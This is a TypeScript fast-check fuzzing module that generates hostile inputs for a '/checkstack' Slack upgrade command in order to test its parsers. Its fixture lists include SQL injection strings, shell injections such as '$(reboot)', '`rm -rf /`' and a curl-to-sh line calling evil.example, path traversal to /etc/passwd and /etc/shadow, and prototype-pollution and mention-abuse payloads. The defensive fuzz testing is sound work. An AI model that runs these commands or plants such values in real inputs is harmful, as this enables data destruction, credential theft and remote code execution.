// fast-check arbitraries for hostile input: `/checkstack` texts that mix known subcommands with tricky versions,
// shell/SQL/mrkdwn fragments, raw unicode (controls, bidi, lone surrogates, emoji) and very long strings.
import fc from 'fast-check';

/** Versions people (and attackers) type that are not an exact published release. */
export const TRICKY_VERSIONS: readonly string[] = [
  '0.141.0-rc.1+build',
  'v',
  '1e3',
  'latest',
  'LATEST',
  'stable',
  'main',
  '0.30',
  '0',
  'v0',
  '0.30.x',
  '0.x',
  '*',
  '^0.30.0',
  '~0.30.0',
  '>=0.30.0',
  '<0.31.0',
  '=0.30.0',
  '0.30.0||0.31.0',
  '0.30.0.0',
  '00.30.0',
  '0.030.0',
  '-1.0.0',
  '0.30.0-',
  '0.30.0-rc..1',
  '0.30.0+',
  'v0.30.0+build.5',
  'vv0.30.0',
  '0x1E.0.0',
  '1e3.0.0',
  'NaN',
  'Infinity',
  '0.30.0\u200b',
  '0.30.0\u0000',
  '\uff10.\uff13\uff10.\uff10',
  '\u0660.\u0663\u0660.\u0660',
  '0\u200d.30.0',
  `${'9'.repeat(70)}.0.0`,
  '99999999999999999999.0.0',
  '0.30.0;reboot',
  '0.30.0`id`',
  '0.30.0$(id)',
  '../0.30.0',
  '0.30.0/../../etc/passwd',
  '%30.30.0',
  '0.30.0%00',
];

/** Shell and SQL metacharacters, path traversal, Slack mrkdwn and mention syntax, template and prototype keys. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  "'; DROP TABLE upgrades; --",
  "' OR '1'='1",
  '" OR 1=1 --',
  '1; SELECT pg_sleep(10)',
  '$(reboot)',
  '`rm -rf /`',
  '| cat /etc/passwd',
  '&& curl http://evil.example | sh',
  '; shutdown -h now',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '..%2f..%2f..%2fetc%2fpasswd',
  '/proc/self/environ',
  'file:///etc/shadow',
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0APPROVER1>',
  '<#C0OPS>',
  '<https://evil.example|click me>',
  '*bold* _it_ ~s~ `code` ```block```',
  '${SLACK_BOT_TOKEN}',
  '{{7*7}}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  '{"__proto__":{"admin":true}}',
  '[object Object]',
  'null',
  'undefined',
  '\u202egnp.exe',
  '\ufeff',
  '\u0000',
  '\u001b[31mred\u001b[0m',
  '\r\n',
  '\t',
  '\u2028',
  '😀',
  '👨‍👩‍👧‍👦',
  '𝕦𝕡𝕘𝕣𝕒𝕕𝕖',
  'İ',
  'ß',
  'Z̷̢͉a̸͍l̵g̶o̷',
  '\ud800',
  'prod\u0000',
  'prod/../staging',
  'PROD',
  'prod;staging',
  '--prerelease',
  '—prerelease',
  '--force',
  '--target=prod',
];

export const SUBCOMMAND_WORDS: readonly string[] = [
  'upgrade',
  'UPGRADE',
  'Upgrade',
  'rollback',
  'cancel',
  'status',
  'history',
  'releases',
  'subscribe',
  'unsubscribe',
  'help',
  'upgrad',
  'upgrade\u200b',
  'üpgrade',
  'deploy',
  'sudo',
  '/checkstack',
];

/** Code point ranges that break naive parsers: controls, bidi, zero-width, CJK, surrogates, emoji, private use. */
const CODE_POINT_RANGES: readonly [number, number][] = [
  [0x00, 0x1f],
  [0x20, 0x7e],
  [0x7f, 0x9f],
  [0xa0, 0xff],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2066, 0x2069],
  [0x3000, 0x303f],
  [0x4e00, 0x4eff],
  [0xd800, 0xdfff],
  [0xe000, 0xe0ff],
  [0xfe00, 0xfe0f],
  [0xfff0, 0xffff],
  [0x1f300, 0x1f6ff],
  [0xe0000, 0xe007f],
];

// A lone surrogate is a valid JS string unit; keep it so the URL encoder and Bolt must cope.
const codePoint = fc
  .constantFrom(...CODE_POINT_RANGES)
  .chain(([low, high]) => fc.integer({ min: low, max: high }))
  .map((cp) => (cp <= 0xffff ? String.fromCharCode(cp) : String.fromCodePoint(cp)));

const unicodeText = (maxLength: number) => fc.array(codePoint, { minLength: 1, maxLength }).map((units) => units.join(''));

const SEPARATORS: readonly string[] = [' ', '  ', '\t', '\n', '\u00a0', '\u3000', '\u2003', ''];
const separator = fc.constantFrom(...SEPARATORS);
const orSpace = (sep: string) => sep || ' ';
const maybe = (arbitrary: fc.Arbitrary<string>, frequency: number) =>
  fc.oneof({ arbitrary: fc.constant(''), weight: 100 - frequency }, { arbitrary, weight: frequency });

const versionPart = fc.oneof(
  fc.constantFrom('0', '1', '7', '30', '141', '01', '-1', '1e3', 'x', '*', ''),
  fc.integer({ min: 0, max: 999 }).map(String),
  fc.integer({ min: 1, max: 25 }).map((n) => '9'.repeat(n)),
);

const versionLike = fc
  .record({
    prefix: fc.constantFrom('', '', 'v', 'V', 'vv', '=', '^', '~'),
    parts: fc.array(versionPart, { minLength: 1, maxLength: 5 }),
    joiner: fc.constantFrom('.', '.', '.', ',', '..', '_'),
    pre: maybe(fc.constantFrom('rc.1', 'beta', '', '.', '01', 'rc..1', '😀').map((p) => `-${p}`), 30),
    build: maybe(fc.constantFrom('build', 'sha.abc', '', '+').map((b) => `+${b}`), 20),
  })
  .map(({ prefix, parts, joiner, pre, build }) => `${prefix}${parts.join(joiner)}${pre}${build}`);

const subcommand = fc.constantFrom(...SUBCOMMAND_WORDS);
const hostile = fc.constantFrom(...HOSTILE_FRAGMENTS);

/**
 * One `/checkstack` text. Strategies mix a known subcommand with hostile arguments (so the deep parsers run, not
 * only "unknown subcommand"), raw random unicode, and very long strings.
 */
export const hostileCommandText: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(separator, fc.constantFrom(...TRICKY_VERSIONS), maybe(fc.constantFrom(...HOSTILE_FRAGMENTS, 'prod', 'staging').map((t) => ` ${t}`), 40))
    .map(([sep, version, target]) => `upgrade${orSpace(sep)}${version}${target}`),
  fc
    .tuple(versionLike, maybe(fc.constantFrom('prod', 'staging', 'moon', ...HOSTILE_FRAGMENTS).map((t) => ` ${t}`), 30))
    .map(([version, target]) => `upgrade ${version}${target}`),
  fc
    .tuple(subcommand, fc.array(hostile, { minLength: 1, maxLength: 3 }), separator)
    .map(([word, words, sep]) => [word, ...words].join(orSpace(sep))),
  fc.tuple(subcommand, unicodeText(40)).map(([word, text]) => `${word} ${text}`),
  unicodeText(80),
  // Past the 500-character cap, sometimes far past it.
  fc
    .tuple(subcommand, fc.constantFrom(501, 2_000, 8_000, 20_000), fc.constantFrom('a', '0.30.0 ', "'; DROP TABLE upgrades; -- ", '😀', '\u0000', '../'))
    .map(([word, length, unit]) => `${word} ${unit.repeat(Math.ceil(length / unit.length))}`),
  fc
    .tuple(
      fc.constantFrom('releases', 'status', 'history', 'cancel', 'rollback'),
      fc.constantFrom(...HOSTILE_FRAGMENTS, '0', '-1', '21', '1e3', '5.5', '0x10', 'a'.repeat(64), 'a'.repeat(63)),
      maybe(hostile.map((t) => ` ${t}`), 30),
    )
    .map(([word, argument, more]) => `${word} ${argument}${more}`),
  fc
    .tuple(
      subcommand,
      separator,
      fc.constantFrom('--prerelease', '—prerelease', '–prerelease', '--PRERELEASE', '---prerelease', '--'),
      separator,
      fc.constantFrom(...TRICKY_VERSIONS, ...HOSTILE_FRAGMENTS),
    )
    .map(([word, sep1, flag, sep2, argument]) => `${word}${sep1}${flag}${sep2}${argument}`),
);

/** `count` texts from a fixed seed (the same on every machine), preceded by every tricky version in its usual places. */
export function hostileCommandTexts(seed: number, count: number): string[] {
  const named = TRICKY_VERSIONS.flatMap((v) => [`upgrade ${v}`, `upgrade ${v} prod`, `upgrade prod ${v}`, `upgrade ${v} --prerelease`]);
  const generated = count > named.length ? fc.sample(hostileCommandText, { seed, numRuns: count - named.length }) : [];
  return [...named, ...generated];
}
